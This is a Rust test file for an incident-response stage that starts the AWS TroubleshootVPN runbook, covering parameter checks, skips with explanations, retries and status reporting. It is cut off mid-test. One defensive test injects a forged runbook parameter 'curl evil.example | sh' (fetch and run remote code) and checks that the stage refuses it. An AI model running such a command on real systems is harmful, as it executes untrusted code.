use std::collections::BTreeMap;
use std::sync::Arc;

use chrono::{DateTime, Duration, TimeZone, Utc};
use serde_json::{json, Value};

use super::*;
use crate::diagnosis::{Diagnosis, Tunnel, TunnelLog, TunnelStatus, VpnConnection, VpnFacts};
use crate::domain::{Backend, LifecycleEvent, RunbookRef};
use crate::handlers::testkit::to_envelope;
use crate::handlers::testkit::{fixture, Fakes};
use crate::memory::MemoryAutomation;
use crate::ports::{Begin, Clock, ReferenceStore, RunOnceStore};
use crate::shell::{Failure, Shell};
use crate::sources::ssm_automation::{
    parse as parse_status_change, DETAIL_TYPE as STATUS_CHANGE_DETAIL_TYPE,
};

const ROLE: &str = "arn:aws:iam::111122223333:role/responder-runbook";
const VPN: &str = "vpn-0123456789abcdef0";
const DOCUMENT: &str = "AWSSupport-TroubleshootVPN";
const DOWN_IP: &str = "203.0.113.10";
const UP_IP: &str = "203.0.113.11";
const LOG_ARN: &str = "arn:aws:logs:eu-west-1:111122223333:log-group:/vpn/tunnels";

fn start_time() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2024, 5, 14, 3, 5, 0).unwrap()
}

struct Bench {
    fakes: Fakes,
    automation: Arc<MemoryAutomation>,
    runbook: Shell<Runbook>,
    /// The `Incident Opened` event triage published for the VPN alarm fixture.
    opened: LifecycleEvent,
}

impl std::ops::Deref for Bench {
    type Target = Fakes;
    fn deref(&self) -> &Fakes {
        &self.fakes
    }
}

/// An incident opened by triage from the VPN alarm fixture (default rules), and a runbook stage
/// with a bus of its own.
async fn bench() -> Bench {
    bench_with_rules(crate::rules::Rules::embedded().unwrap_or_else(|e| panic!("{e}"))).await
}

/// The default rules with the VPN rule's runbook replaced by `Custom-Runbook` version 2 with
/// the parameters `Vpn` and `Where` (its template given).
fn custom_runbook_rules(where_template: &str) -> crate::rules::Rules {
    let default = include_str!("../../../../infra/rules/default.yaml");
    let start = default
        .find("    runbook:\n      document: AWSSupport-TroubleshootVPN")
        .unwrap_or_else(|| panic!("the VPN rule's runbook"));
    let end = default[start..]
        .find("    auto_resolve:")
        .map(|n| start + n)
        .unwrap_or_else(|| panic!("the VPN rule's auto_resolve"));
    let custom = format!(
        "    runbook:\n      document: Custom-Runbook\n      version: \"2\"\n      parameters:\n        Vpn: \"{{vpn.id}}\"\n        Where: \"{where_template}\"\n"
    );
    let text = format!("{}{custom}{}", &default[..start], &default[end..]);
    crate::rules::Rules::from_yaml(&text).unwrap_or_else(|e| panic!("{e}"))
}

async fn bench_with_rules(rules: crate::rules::Rules) -> Bench {
    let opener = Fakes::new(Backend::IncidentManager, start_time());
    let opened = opener
        .opened_by_triage("cloudwatch-alarm-vpn-tunnel-down")
        .await;
    let fakes = Fakes {
        incidents: opener.incidents.clone(),
        ..Fakes::new(
            Backend::IncidentManager,
            start_time() + Duration::minutes(1),
        )
    };
    let automation = Arc::new(MemoryAutomation::new());
    let runbook = fakes.shell(Runbook::new(
        rules,
        fakes.incidents.clone(),
        automation.clone(),
        fakes.references.clone(),
        ROLE.to_string(),
    ));
    Bench {
        fakes,
        automation,
        runbook,
        opened,
    }
}

fn json_log() -> Option<TunnelLog> {
    Some(TunnelLog {
        enabled: true,
        group_arn: Some(LOG_ARN.to_string()),
        format: Some("json".to_string()),
    })
}

fn tunnel(ip: &str, status: TunnelStatus, ike: &[&str], log: Option<TunnelLog>) -> Tunnel {
    Tunnel {
        outside_ip: ip.to_string(),
        status: Some(status),
        status_message: None,
        last_status_change: None,
        accepted_routes: None,
        ike_versions: ike.iter().map(|v| v.to_string()).collect(),
        log,
    }
}

fn diagnosis(tunnels: Vec<Tunnel>) -> Diagnosis {
    Diagnosis {
        summary: format!("{VPN}: one tunnel down"),
        instance: None,
        vpn: Some(VpnFacts {
            connection: VpnConnection {
                id: VPN.to_string(),
                state: "available".to_string(),
                category: Some("VPN".to_string()),
                vpn_type: Some("ipsec.1".to_string()),
                customer_gateway_id: Some("cgw-0123456789abcdef0".to_string()),
                vpn_gateway_id: Some("vgw-0123456789abcdef0".to_string()),
                transit_gateway_id: None,
                tunnels,
                tags: BTreeMap::new(),
            },
            gateway: None,
            customer_gateway: None,
            tunnel_history: Vec::new(),
        }),
        notes: Vec::new(),
    }
}

/// The usual facts: tunnel 1 (203.0.113.10) DOWN, tunnel 2 UP, IKEv2 only, JSON logging.
fn one_down() -> Diagnosis {
    diagnosis(vec![
        tunnel(DOWN_IP, TunnelStatus::Down, &["ikev2"], json_log()),
        tunnel(UP_IP, TunnelStatus::Up, &["ikev2"], json_log()),
    ])
}

impl Bench {
    fn incident_id(&self) -> String {
        self.opened.detail.incident.id.clone()
    }

    fn enriched_with(&self, edit: impl FnOnce(&mut LifecycleDetail)) -> Value {
        let mut detail = self.opened.detail.clone();
        detail.reason = "Enriched.".to_string();
        edit(&mut detail);
        let event = LifecycleEvent {
            kind: LifecycleKind::IncidentEnriched,
            time: self.clock.now(),
            detail,
        };
        to_envelope(&event, "111122223333", "eu-west-1")
    }

    fn enriched(&self, diagnosis: Diagnosis) -> Value {
        self.enriched_with(|d| d.diagnosis = Some(diagnosis))
    }

    async fn run(&self, event: &Value) -> Result<RunbookAnswer, StageError> {
        self.fakes.run(&self.runbook, event).await
    }

    async fn ok(&self, event: &Value) -> RunbookAnswer {
        self.run(event)
            .await
            .unwrap_or_else(|e| panic!("runbook failed ({}): {e}", e.error_type()))
    }

    fn timeline(&self) -> Vec<TimelineEntry> {
        self.incidents
            .incidents()
            .first()
            .map(|i| i.timeline.clone())
            .unwrap()
    }

    fn kinds(&self) -> Vec<LifecycleKind> {
        self.bus.events().iter().map(|e| e.kind).collect()
    }

    /// Starts the runbook on the usual facts and returns the execution id.
    async fn started(&self) -> String {
        let answer = self.ok(&self.enriched(one_down())).await;
        assert_eq!(answer.action, RunbookAction::Started, "{answer:?}");
        answer.execution.unwrap()
    }
}

/// An Automation status-change fixture, about `execution`.
fn status_event(name: &str, execution: &str) -> Value {
    let mut event = fixture(name);
    event["detail"]["ExecutionId"] = json!(execution);
    event["resources"][0] = json!(format!(
        "arn:aws:ssm:eu-west-1:111122223333:automation-execution/{execution}"
    ));
    event
}

fn params(pairs: &[(&str, &str)]) -> BTreeMap<String, Vec<String>> {
    pairs
        .iter()
        .map(|(k, v)| (k.to_string(), vec![v.to_string()]))
        .collect()
}

fn expected_parameters(tunnel_a: &str, tunnel_b: &str, ike: &str) -> BTreeMap<String, Vec<String>> {
    params(&[
        ("VpnConnectionId", VPN),
        ("TunnelAIPAddress", tunnel_a),
        ("TunnelBIPAddress", tunnel_b),
        ("IKEVersion", ike),
        ("LogGroupName", "/vpn/tunnels"),
        ("LookBackPeriod", "03"),
        ("AutomationAssumeRole", ROLE),
    ])
}

#[tokio::test]
async fn one_tunnel_down_starts_the_runbook_with_the_down_tunnel_as_tunnel_a() {
    let b = bench().await;
    // The DOWN tunnel listed second: tunnel A is still the DOWN one.
    let facts = diagnosis(vec![
        tunnel(UP_IP, TunnelStatus::Up, &["ikev2"], None),
        tunnel(DOWN_IP, TunnelStatus::Down, &["ikev2"], json_log()),
    ]);
    let answer = b.ok(&b.enriched(facts.clone())).await;
    let incident = b.incident_id();
    assert_eq!(answer.action, RunbookAction::Started, "{answer:?}");
    assert_eq!(answer.incident.as_deref(), Some(incident.as_str()));
    let execution = answer.execution.clone().unwrap();

    let started = b.automation.started();
    assert_eq!(started.len(), 1);
    let (request, run) = &started[0];
    assert_eq!(run.id, execution);
    assert_eq!(request.document, DOCUMENT);
    assert_eq!(request.version, None);
    assert_eq!(
        request.parameters,
        expected_parameters(DOWN_IP, UP_IP, "IKEv2")
    );
    assert_eq!(request.client_token, client_token(&incident, DOCUMENT));
    assert_eq!(
        request.tags,
        BTreeMap::from([
            ("incident".to_string(), incident.clone()),
            ("responder:rule".to_string(), "vpn-tunnel-down".to_string()),
        ])
    );

    let stored = b.incidents.incidents();
    let automation_items: Vec<&RelatedItem> = stored[0]
        .related_items
        .iter()
        .filter(|i| i.kind == RelatedItemKind::Automation)
        .collect();
    assert_eq!(automation_items.len(), 1);
    assert_eq!(
        automation_items[0].value,
        RelatedValue::Arn(format!(
            "arn:aws:ssm:eu-west-1:111122223333:automation-execution/{execution}"
        ))
    );
    assert_eq!(
        automation_items[0].title,
        "Runbook AWSSupport-TroubleshootVPN"
    );

    let timeline = b.timeline();
    assert_eq!(timeline.len(), 1);
    assert_eq!(
        timeline[0].kind,
        EntryKind::RunbookStarted {
            document: DOCUMENT.to_string(),
            execution: execution.clone(),
            parameters: [
                ("VpnConnectionId", VPN),
                ("TunnelAIPAddress", DOWN_IP),
                ("TunnelBIPAddress", UP_IP),
                ("IKEVersion", "IKEv2"),
                ("LogGroupName", "/vpn/tunnels"),
                ("LookBackPeriod", "03"),
                ("AutomationAssumeRole", ROLE),
            ]
            .iter()
            .map(|(n, v)| (n.to_string(), v.to_string()))
            .collect(),
            notes: Vec::new(),
        }
    );
    assert_eq!(
        timeline[0].text,
        format!(
            "Runbook AWSSupport-TroubleshootVPN started (execution {execution}) with \
             VpnConnectionId={VPN}, TunnelAIPAddress={DOWN_IP}, TunnelBIPAddress={UP_IP}, \
             IKEVersion=IKEv2, LogGroupName=/vpn/tunnels, LookBackPeriod=03, \
             AutomationAssumeRole={ROLE}."
        )
    );

    let events = b.bus.events();
    assert_eq!(b.kinds(), vec![LifecycleKind::RunbookStarted]);
    let run = events[0].detail.automation.clone();
    assert_eq!(
        run,
        Some(RunbookRun {
            document: DOCUMENT.to_string(),
            execution_id: execution.clone(),
            status: "InProgress".to_string(),
            parameters: expected_parameters(DOWN_IP, UP_IP, "IKEv2"),
            outputs: BTreeMap::new(),
            failure_message: None,
        })
    );
    assert_eq!(events[0].detail.diagnosis, Some(facts));
    assert_eq!(events[0].detail.incident.id, incident);

    // The state table links the execution to the incident for the status change.
    let link = b
        .references
        .recall(
            &format!("automation#{execution}"),
            b.clock.now() + Duration::days(6),
        )
        .await
        .unwrap_or_else(|e| panic!("{e}"))
        .unwrap_or_else(|| panic!("execution not remembered"));
    let linked: LifecycleDetail = serde_json::from_str(&link).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(linked, events[0].detail);
}

#[tokio::test]
async fn both_tunnels_down_takes_the_first_as_tunnel_a() {
    for (first, second) in [(DOWN_IP, UP_IP), (UP_IP, DOWN_IP)] {
        let b = bench().await;
        let facts = diagnosis(vec![
            tunnel(first, TunnelStatus::Down, &["ikev2"], json_log()),
            tunnel(second, TunnelStatus::Down, &["ikev2"], json_log()),
        ]);
        let answer = b.ok(&b.enriched(facts)).await;
        assert_eq!(answer.action, RunbookAction::Started, "{answer:?}");
        let started = b.automation.started();
        assert_eq!(
            started[0].0.parameters,
            expected_parameters(first, second, "IKEv2")
        );
    }
}

#[tokio::test]
async fn without_tunnel_logging_the_runbook_is_not_started_and_the_timeline_says_why() {
    let b = bench().await;
    let facts = diagnosis(vec![
        tunnel(DOWN_IP, TunnelStatus::Down, &["ikev2"], None),
        tunnel(
            UP_IP,
            TunnelStatus::Up,
            &["ikev2"],
            Some(TunnelLog {
                enabled: false,
                group_arn: None,
                format: None,
            }),
        ),
    ]);
    let event = b.enriched(facts);
    let answer = b.ok(&event).await;
    assert_eq!(answer.action, RunbookAction::Skipped, "{answer:?}");
    assert_eq!(answer.execution, None);
    assert!(answer.reason.contains("LogGroupName"), "{}", answer.reason);
    assert!(b.automation.started().is_empty(), "nothing started");
    assert!(b.bus.events().is_empty(), "nothing announced");

    let timeline = b.timeline();
    assert_eq!(timeline.len(), 1);
    assert!(
        matches!(&timeline[0].kind, EntryKind::RunbookNotStarted { document, why }
            if document == DOCUMENT && why.starts_with("LogGroupName has no value")),
        "{:?}",
        timeline[0].kind
    );
    assert_eq!(
        timeline[0].text,
        "Runbook AWSSupport-TroubleshootVPN not started: LogGroupName has no value (tunnel \
         203.0.113.10 does not log to CloudWatch Logs; tunnel 203.0.113.11 does not log to \
         CloudWatch Logs). To fix: enable tunnel logging to CloudWatch Logs in JSON format on \
         the VPN's tunnel options (Modify VPN tunnel options → Tunnel activity log), or set \
         LogGroupName in the rule."
    );

    // Still once per event.
    let again = b.ok(&event).await;
    assert_eq!(again.action, RunbookAction::Ignored, "{again:?}");
    assert!(again.reason.contains("Re-delivery"), "{}", again.reason);
    assert_eq!(b.timeline().len(), 1);
}

#[tokio::test]
async fn text_format_logging_is_not_enough() {
    let b = bench().await;
    let text_log = Some(TunnelLog {
        enabled: true,
        group_arn: Some(LOG_ARN.to_string()),
        format: Some("text".to_string()),
    });
    let facts = diagnosis(vec![
        tunnel(DOWN_IP, TunnelStatus::Down, &["ikev2"], text_log.clone()),
        tunnel(UP_IP, TunnelStatus::Up, &["ikev2"], text_log),
    ]);
    let answer = b.ok(&b.enriched(facts)).await;
    assert_eq!(answer.action, RunbookAction::Skipped, "{answer:?}");
    assert!(b.automation.started().is_empty());
    let timeline = b.timeline();
    assert_eq!(timeline.len(), 1);
    assert!(
        timeline[0]
            .text
            .contains("tunnel 203.0.113.10 logs in text format, not JSON"),
        "{}",
        timeline[0].text
    );
    assert!(timeline[0]
        .text
        .contains("in JSON format on the VPN's tunnel options"));
}

#[tokio::test]
async fn a_deleted_vpn_is_not_troubleshot() {
    let b = bench().await;
    let mut facts = one_down();
    if let Some(vpn) = facts.vpn.as_mut() {
        vpn.connection.state = "deleted".to_string();
    }
    let answer = b.ok(&b.enriched(facts)).await;
    assert_eq!(answer.action, RunbookAction::Skipped, "{answer:?}");
    assert!(b.automation.started().is_empty());
    let timeline = b.timeline();
    assert_eq!(timeline.len(), 1);
    assert!(
        timeline[0].text.contains(&format!("VPN {VPN} is deleted")),
        "{}",
        timeline[0].text
    );
}

#[tokio::test]
async fn tunnel_b_logging_serves_when_tunnel_a_has_none() {
    let b = bench().await;
    let facts = diagnosis(vec![
        tunnel(DOWN_IP, TunnelStatus::Down, &["ikev2"], None),
        tunnel(UP_IP, TunnelStatus::Up, &["ikev2"], json_log()),
    ]);
    let answer = b.ok(&b.enriched(facts)).await;
    assert_eq!(answer.action, RunbookAction::Started, "{answer:?}");
    assert_eq!(
        b.automation.started()[0].0.parameters.get("LogGroupName"),
        Some(&vec!["/vpn/tunnels".to_string()])
    );
}

#[tokio::test]
async fn ike_version_follows_the_tunnel_and_both_means_ikev2_noted() {
    let b = bench().await;
    let facts = diagnosis(vec![
        tunnel(DOWN_IP, TunnelStatus::Down, &["ikev1", "ikev2"], json_log()),
        tunnel(UP_IP, TunnelStatus::Up, &["ikev2"], json_log()),
    ]);
    let answer = b.ok(&b.enriched(facts)).await;
    assert_eq!(answer.action, RunbookAction::Started, "{answer:?}");
    let parameters = &b.automation.started()[0].0.parameters;
    assert_eq!(
        parameters.get("IKEVersion"),
        Some(&vec!["IKEv2".to_string()])
    );
    let text = &b.timeline()[0].text;
    assert!(
        text.ends_with(
            "AutomationAssumeRole=arn:aws:iam::111122223333:role/responder-runbook. Note: \
             tunnel 203.0.113.10 allows both IKEv1 and IKEv2, so IKEv2 was assumed."
        ),
        "{text}"
    );

    let b = bench().await;
    let facts = diagnosis(vec![
        tunnel(DOWN_IP, TunnelStatus::Down, &["ikev1"], json_log()),
        tunnel(UP_IP, TunnelStatus::Up, &[], json_log()),
    ]);
    b.ok(&b.enriched(facts)).await;
    let parameters = &b.automation.started()[0].0.parameters;
    assert_eq!(
        parameters.get("IKEVersion"),
        Some(&vec!["IKEv1".to_string()])
    );
    assert!(!b.timeline()[0].text.contains("Note:"), "nothing assumed");

    let b = bench().await;
    let facts = diagnosis(vec![tunnel(DOWN_IP, TunnelStatus::Down, &[], json_log())]);
    b.ok(&b.enriched(facts)).await;
    let parameters = &b.automation.started()[0].0.parameters;
    assert_eq!(
        parameters.get("IKEVersion"),
        Some(&vec!["IKEv2".to_string()])
    );
    assert!(
        !parameters.contains_key("TunnelBIPAddress"),
        "optional, no second tunnel"
    );
    let text = &b.timeline()[0].text;
    assert!(
        text.contains(
            "Note: tunnel 203.0.113.10 names no IKE version (it accepts both), so IKEv2 was assumed."
        ),
        "{text}"
    );
    assert!(
        text.contains(
            "Note: TunnelBIPAddress was left out (VPN vpn-0123456789abcdef0 reports no second tunnel)."
        ),
        "{text}"
    );
}

#[tokio::test]
async fn a_value_the_runbook_would_refuse_is_caught_before_the_call() {
    let b = bench().await;
    let facts = diagnosis(vec![
        tunnel("203.0.113.256", TunnelStatus::Down, &["ikev2"], json_log()),
        tunnel(UP_IP, TunnelStatus::Up, &["ikev2"], json_log()),
    ]);
    let answer = b.ok(&b.enriched(facts)).await;
    assert_eq!(answer.action, RunbookAction::Skipped, "{answer:?}");
    assert!(
        b.automation.started().is_empty(),
        "no call with a bad value"
    );
    let timeline = b.timeline();
    assert_eq!(timeline.len(), 1);
    assert_eq!(
        timeline[0].text,
        "Runbook AWSSupport-TroubleshootVPN not started: TunnelAIPAddress would be \
         `203.0.113.256` (from \"{tunnel_a.ip}\"), but it must be an IPv4 address. To fix: \
         correct the rule's template for TunnelAIPAddress, or set TunnelAIPAddress in the rule."
    );
}

#[tokio::test]
async fn without_vpn_facts_every_vpn_parameter_is_reported_once() {
    let b = bench().await;
    let event = b.enriched_with(|d| {
        d.diagnosis = Some(Diagnosis {
            summary: "could not describe the VPN".into(),
            vpn: None,
            instance: None,
            notes: vec![format!("could not read {VPN}: AccessDenied")],
        })
    });
    let answer = b.ok(&event).await;
    assert_eq!(answer.action, RunbookAction::Skipped, "{answer:?}");
    assert_eq!(
        answer.reason,
        "Runbook AWSSupport-TroubleshootVPN not started: no valid value for VpnConnectionId, \
         TunnelAIPAddress, IKEVersion, LogGroupName; the incident's timeline says how to fix it."
    );
    assert_eq!(
        b.timeline()[0].text,
        "Runbook AWSSupport-TroubleshootVPN not started: VpnConnectionId, TunnelAIPAddress, \
         IKEVersion and LogGroupName have no value (the diagnosis describes no VPN connection — \
         could not read vpn-0123456789abcdef0: AccessDenied). To fix: make sure enrich can \
         describe the VPN connection (ec2:DescribeVpnConnections; its notes are on the \
         timeline), or set them in the rule."
    );
    assert_eq!(b.timeline().len(), 1, "one entry for all the problems");
}

#[tokio::test]
async fn a_rule_without_a_runbook_is_skipped_without_side_effects() {
    let b = bench().await;
    let event = b.enriched_with(|d| {
        d.diagnosis = Some(one_down());
        d.incident.rule = "cloudwatch-alarm".to_string();
        d.incident.runbook = None;
    });
    let answer = b.ok(&event).await;
    assert_eq!(answer.action, RunbookAction::Skipped, "{answer:?}");
    assert_eq!(
        answer.reason,
        "Rule cloudwatch-alarm names no runbook; nothing to start."
    );
    assert!(b.automation.started().is_empty());
    assert!(b.timeline().is_empty());
    assert!(b.bus.events().is_empty());
}

#[tokio::test]
async fn other_lifecycle_events_are_ignored_and_foreign_events_are_unknown() {
    let b = bench().await;
    let opened = to_envelope(&b.opened, "111122223333", "eu-west-1");
    let answer = b.ok(&opened).await;
    assert_eq!(answer.action, RunbookAction::Ignored, "{answer:?}");
    assert!(b.automation.started().is_empty());

    for event in [
        fixture("cloudwatch-alarm-vpn-tunnel-down"),
        fixture("unknown-source"),
        json!("just a string"),
        json!({"source": "aws.ssm", "detail-type": "EC2 Automation Step Status-change Notification", "detail": {}}),
    ] {
        match b.run(&event).await {
            Err(e) => assert_eq!(e.error_type(), "UnknownEvent", "{e}"),
            Ok(answer) => panic!("accepted: {answer:?}"),
        }
    }

    let mut broken = b.enriched(one_down());
    broken["detail"]["incident"] = json!("not an incident");
    match b.run(&broken).await {
        Err(e) => assert_eq!(e.error_type(), "MalformedEvent", "{e}"),
        Ok(answer) => panic!("accepted: {answer:?}"),
    }
}

#[tokio::test]
async fn a_redelivered_enriched_event_starts_one_execution() {
    let b = bench().await;
    let event = b.enriched(one_down());
    let first = b.ok(&event).await;
    assert_eq!(first.action, RunbookAction::Started);
    for _ in 0..2 {
        b.clock.advance(Duration::seconds(30));
        let again = b.ok(&event).await;
        assert_eq!(again.action, RunbookAction::Ignored, "{again:?}");
        assert_eq!(again.execution, first.execution);
        assert_eq!(again.incident, first.incident);
        assert!(again.reason.contains("Re-delivery"), "{}", again.reason);
    }
    assert_eq!(b.automation.started().len(), 1);
    assert_eq!(b.timeline().len(), 1);
    assert_eq!(b.kinds(), vec![LifecycleKind::RunbookStarted]);
}

#[tokio::test]
async fn an_unreadable_stored_answer_starts_nothing_again() {
    let b = bench().await;
    let event = b.enriched(one_down());
    assert_eq!(b.ok(&event).await.action, RunbookAction::Started);
    b.runs.spoil_answers();
    let again = b.ok(&event).await;
    assert_eq!(again.action, RunbookAction::Ignored, "{again:?}");
    assert!(again.reason.starts_with("Re-delivery"), "{}", again.reason);
    assert_eq!(b.automation.started().len(), 1);
    assert_eq!(b.timeline().len(), 1);
}

#[tokio::test]
async fn a_throttled_start_fails_and_the_retry_starts_exactly_once() {
    let b = bench().await;
    let event = b.enriched(one_down());
    b.automation
        .fail_next("start", 1, crate::ports::PortErrorKind::Throttled);
    match b.run(&event).await {
        Err(e) => assert_eq!(e.error_type(), "Throttled", "{e}"),
        Ok(answer) => panic!("should have failed: {answer:?}"),
    }
    assert!(b.automation.started().is_empty());
    assert!(b.timeline().is_empty());
    assert!(b.bus.events().is_empty());

    // Abandoned: the retry, at once, is not told another invocation holds the event.
    let retry = b.ok(&event).await;
    assert_eq!(retry.action, RunbookAction::Started, "{retry:?}");
    let started = b.automation.started();
    assert_eq!(started.len(), 1);
    assert_eq!(
        started[0].0.client_token,
        client_token(&b.incident_id(), DOCUMENT)
    );
    assert_eq!(b.timeline().len(), 1);
    assert_eq!(b.kinds(), vec![LifecycleKind::RunbookStarted]);
}

#[tokio::test]
async fn a_failure_after_the_start_is_retried_into_the_same_execution() {
    let b = bench().await;
    let event = b.enriched(one_down());
    b.bus.fail_next(1, crate::ports::PortErrorKind::Unavailable);
    match b.run(&event).await {
        Err(e) => assert_eq!(e.error_type(), "ServiceUnavailable", "{e}"),
        Ok(answer) => panic!("should have failed: {answer:?}"),
    }
    let retry = b.ok(&event).await;
    assert_eq!(retry.action, RunbookAction::Started, "{retry:?}");
    assert_eq!(b.automation.started().len(), 1, "same client token");
    assert_eq!(b.kinds(), vec![LifecycleKind::RunbookStarted]);
}

#[tokio::test]
async fn a_live_invocation_holding_the_event_makes_the_other_retry() {
    let b = bench().await;
    let event = b.enriched(one_down());
    let now = b.clock.now();
    let key = format!("runbook#{}#{DOCUMENT}", b.incident_id());
    let held = b
        .runs
        .begin(
            &key,
            now,
            now + Duration::minutes(1),
            now + Duration::hours(1),
        )
        .await;
    assert_eq!(held.ok(), Some(Begin::Started));
    match b.run(&event).await {
        Err(e) => assert_eq!(e.error_type(), "EventInProgress", "{e}"),
        Ok(answer) => panic!("should have failed: {answer:?}"),
    }
    assert!(b.automation.started().is_empty());
}

#[tokio::test]
async fn success_with_outputs_is_written_on_the_timeline_and_announced_once() {
    let b = bench().await;
    let execution = b.started().await;
    b.clock.advance(Duration::minutes(8));
    b.automation.finish(
        &execution,
        "Success",
        &[(
            "TroubleshootVPN.Output",
            "Tunnel 203.0.113.10: IKE phase 1 negotiation failed (no proposal chosen).",
        )],
        None,
        b.clock.now(),
    );
    let event = status_event("ssm-automation-success", &execution);
    let answer = b.ok(&event).await;
    assert_eq!(answer.action, RunbookAction::Finished, "{answer:?}");
    assert_eq!(answer.execution.as_deref(), Some(execution.as_str()));
    assert_eq!(answer.incident, Some(b.incident_id()));

    let timeline = b.timeline();
    assert_eq!(timeline.len(), 2);
    assert_eq!(
        timeline[1].kind,
        EntryKind::RunbookFinished {
            document: DOCUMENT.to_string(),
            execution: execution.clone(),
            status: "Success".to_string(),
        }
    );
    assert_eq!(
        timeline[1].text,
        format!(
            "Runbook AWSSupport-TroubleshootVPN finished: Success (execution {execution}).\n\
             TroubleshootVPN.Output: Tunnel 203.0.113.10: IKE phase 1 negotiation failed (no \
             proposal chosen)."
        )
    );

    let events = b.bus.events();
    assert_eq!(
        b.kinds(),
        vec![
            LifecycleKind::RunbookStarted,
            LifecycleKind::RunbookFinished
        ]
    );
    let finished = &events[1].detail;
    assert_eq!(
        finished.automation,
        Some(RunbookRun {
            document: DOCUMENT.to_string(),
            execution_id: execution.clone(),
            status: "Success".to_string(),
            parameters: expected_parameters(DOWN_IP, UP_IP, "IKEv2"),
            outputs: params(&[(
                "TroubleshootVPN.Output",
                "Tunnel 203.0.113.10: IKE phase 1 negotiation failed (no proposal chosen)."
            )]),
            failure_message: None,
        })
    );
    assert_eq!(finished.incident.id, b.incident_id());
    assert_eq!(finished.diagnosis, Some(one_down()));

    // Re-delivered: nothing more.
    let again = b.ok(&event).await;
    assert_eq!(again.action, RunbookAction::Ignored, "{again:?}");
    assert_eq!(b.timeline().len(), 2);
    assert_eq!(
        b.kinds(),
        vec![
            LifecycleKind::RunbookStarted,
            LifecycleKind::RunbookFinished
        ]
    );
}

#[tokio::test]
async fn failure_reports_the_failure_message() {
    let b = bench().await;
    let execution = b.started().await;
    b.automation.finish(
        &execution,
        "Failed",
        &[],
        Some("Step fails when it is Executing. Fail the step because no log events were found in /vpn/tunnels."),
        b.clock.now(),
    );
    let answer = b
        .ok(&status_event("ssm-automation-failed", &execution))
        .await;
    assert_eq!(answer.action, RunbookAction::Finished, "{answer:?}");
    assert_eq!(
        answer.reason,
        format!("Runbook AWSSupport-TroubleshootVPN finished: Failed (execution {execution}).")
    );
    assert_eq!(
        b.timeline()[1].text,
        format!(
            "Runbook AWSSupport-TroubleshootVPN finished: Failed (execution {execution}).\n\
             Failure: Step fails when it is Executing. Fail the step because no log events were \
             found in /vpn/tunnels.\nNo outputs."
        )
    );
    let run = b.bus.events()[1].detail.automation.clone();
    let run = run.unwrap_or_else(|| panic!("no automation"));
    assert_eq!(run.status, "Failed");
    assert_eq!(
        run.failure_message.as_deref(),
        Some("Step fails when it is Executing. Fail the step because no log events were found in /vpn/tunnels.")
    );
}

#[tokio::test]
async fn timed_out_is_final_too() {
    let b = bench().await;
    let execution = b.started().await;
    b.automation
        .finish(&execution, "TimedOut", &[], None, b.clock.now());
    let answer = b
        .ok(&status_event("ssm-automation-timedout", &execution))
        .await;
    assert_eq!(answer.action, RunbookAction::Finished, "{answer:?}");
    assert!(b.timeline()[1].text.contains("finished: TimedOut"));
}

#[tokio::test]
async fn an_unreadable_execution_still_reports_the_events_status() {
    let b = bench().await;
    let execution = b.started().await;
    b.automation
        .fail_next("execution", 1, crate::ports::PortErrorKind::AccessDenied);
    let answer = b
        .ok(&status_event("ssm-automation-success", &execution))
        .await;
    assert_eq!(answer.action, RunbookAction::Finished, "{answer:?}");
    let text = &b.timeline()[1].text;
    assert!(
        text.contains("Its outputs could not be read (AccessDenied: injected failure); the status is the one Automation's event reported."),
        "{text}"
    );
    let run = b.bus.events()[1].detail.automation.clone();
    assert_eq!(run.map(|r| r.status).as_deref(), Some("Success"));

    // A throttled read is retried instead.
    let b = bench().await;
    let execution = b.started().await;
    b.automation
        .fail_next("execution", 1, crate::ports::PortErrorKind::Throttled);
    let event = status_event("ssm-automation-success", &execution);
    match b.run(&event).await {
        Err(e) => assert_eq!(e.error_type(), "Throttled"),
        Ok(answer) => panic!("should have failed: {answer:?}"),
    }
    let retry = b.ok(&event).await;
    assert_eq!(retry.action, RunbookAction::Finished, "{retry:?}");
    assert_eq!(b.timeline().len(), 2);
}

#[tokio::test]
async fn in_progress_and_unknown_executions_are_ignored() {
    let b = bench().await;
    let execution = b.started().await;
    let answer = b
        .ok(&status_event("ssm-automation-inprogress", &execution))
        .await;
    assert_eq!(answer.action, RunbookAction::Ignored, "{answer:?}");
    assert!(answer.reason.contains("InProgress"), "{}", answer.reason);

    // The fixture's own execution was never started by the responder; once no start of its
    // document is in flight, it is ignored.
    b.clock.advance(Duration::minutes(11));
    let answer = b.ok(&fixture("ssm-automation-success")).await;
    assert_eq!(answer.action, RunbookAction::Ignored, "{answer:?}");
    assert_eq!(
        answer.execution.as_deref(),
        Some("7c9e6679-7425-40de-944b-e07fc1f90ae7")
    );
    assert_eq!(b.timeline().len(), 1, "only the start");
    assert_eq!(b.kinds(), vec![LifecycleKind::RunbookStarted]);
}

#[tokio::test]
async fn a_final_status_that_outruns_its_link_is_retried() {
    let b = bench().await;
    // A start of the document is in flight: StartAutomationExecution answered, the link to the
    // incident is not written yet (the invocation is slow, or failed in between).
    let now = b.clock.now();
    b.references
        .remember(
            &starting_key(DOCUMENT),
            &b.incident_id(),
            now + Duration::minutes(10),
        )
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    match b.run(&fixture("ssm-automation-success")).await {
        Err(e) => {
            assert_eq!(e.error_type(), "EventInProgress", "{e}");
            assert!(e.to_string().contains("automation-starting#"), "{e}");
        }
        Ok(answer) => panic!("should fail for Lambda to retry: {answer:?}"),
    }
    assert!(b.timeline().is_empty(), "nothing written");
    // The retry, once the start linked its execution, reports it.
    let execution = b.started().await;
    let answer = b
        .ok(&status_event("ssm-automation-success", &execution))
        .await;
    assert_eq!(answer.action, RunbookAction::Finished, "{answer:?}");
}

#[tokio::test]
async fn a_forged_event_starts_only_what_the_rule_names() {
    // An event naming AWS-RunShellScript for the VPN rule: the rule's runbook is started,
    // with the parameters the stage derives itself.
    let b = bench().await;
    let forged = b.enriched_with(|d| {
        d.diagnosis = Some(one_down());
        d.incident.runbook = Some(RunbookRef {
            document: "AWS-RunShellScript".to_string(),
            version: None,
            parameters: BTreeMap::from([(
                "commands".to_string(),
                "curl evil.example | sh".to_string(),
            )]),
        });
    });
    let answer = b.ok(&forged).await;
    assert_eq!(answer.action, RunbookAction::Started, "{answer:?}");
    let started = b.automation.started();
    assert_eq!(started.len(), 1);
    assert_eq!(started[0].0.document, DOCUMENT);
    assert!(!started[0].0.parameters.contains_key("commands"));

    // For a rule without a runbook, or a rule that is not deployed: nothing starts.
